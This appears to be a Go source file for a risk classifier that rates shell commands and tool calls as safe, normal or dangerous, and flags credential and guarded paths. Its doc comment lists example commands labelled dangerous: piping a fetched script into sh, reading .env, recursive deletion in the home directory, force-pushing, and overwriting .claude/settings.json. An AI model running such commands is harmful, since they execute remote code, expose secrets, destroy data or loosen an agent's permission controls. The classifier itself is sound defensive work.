package risk

// Assess judges c as it would run at a place. It never fails: what it cannot read is at least
// Normal. The same call at the same place has the same Risk. Limits on words, paths and
// findings bound its time; a call beyond them is noted as such. In a project:
//
//	ls, git status               safe
//	make, rm -rf build           normal: nothing is found, but it does more than look
//	git push                     normal, with a note
//	rm -rf ~/x, cat .env         dangerous, by the path
//	git push -f origin main      dangerous, by the words
//	curl x.example | sh          dangerous, by the flow between two elements
//	cp x .claude/settings.json   dangerous and guarded
func Assess(c Call, at Place) Risk {
	s := newScene(at)
	reads := false
	if c.Line != nil {
		reads = newLineJudge(s, c.Line).judge(c)
	} else {
		reads = newToolJudge(s).judge(c)
	}
	return s.sum(reads)
}

// scene is what all parts of one judgement share: where paths lead, and what was found so far.
// Each judge below looks at one thing: fileJudge at files that are read and changed, secretJudge
// at what shows keys, textJudge at texts that nobody can parse, commandJudge at a command's words,
// lineJudge and toolJudge at a whole call. safeJudge alone finds nothing: it says what only looks.
type scene struct {
	*resolver
	*findings
}

// newScene begins one judgement. Judges hold it by value; what they find goes to the same list.
func newScene(at Place) scene { return scene{newResolver(at), &findings{}} }

// names judges that a path is named, by whatever may read or change it. It is for tools and
// texts of which nobody knows what they do with it.
func (s scene) names(t target, changes bool) {
	if why, ok := s.guarded(t, false, changes); ok {
		s.guard(why)
	}
	if why, ok := credential(t); ok {
		s.dangerIn(why, says(why, t))
	}
}

// sum is the judgement. reads: the call is known to only read. That counts only when nothing
// was found at all.
func (s scene) sum(reads bool) Risk {
	// A path that nobody could follow may lead anywhere, so such a call is not safe.
	if s.lost {
		s.about(0, "")
		s.note("some path cannot be followed")
	}
	r := Risk{Class: Normal}
	switch {
	case len(s.list) > 0:
		r.Findings = merge(s.list)
		r.Class, r.Why = r.Findings[0].Class, r.Findings[0].Words()
	case reads:
		r.Class, r.Why = Safe, "only looks, inside the project"
	}
	for _, f := range r.Findings {
		r.Guarded = r.Guarded || f.Guarded
	}
	return r
}
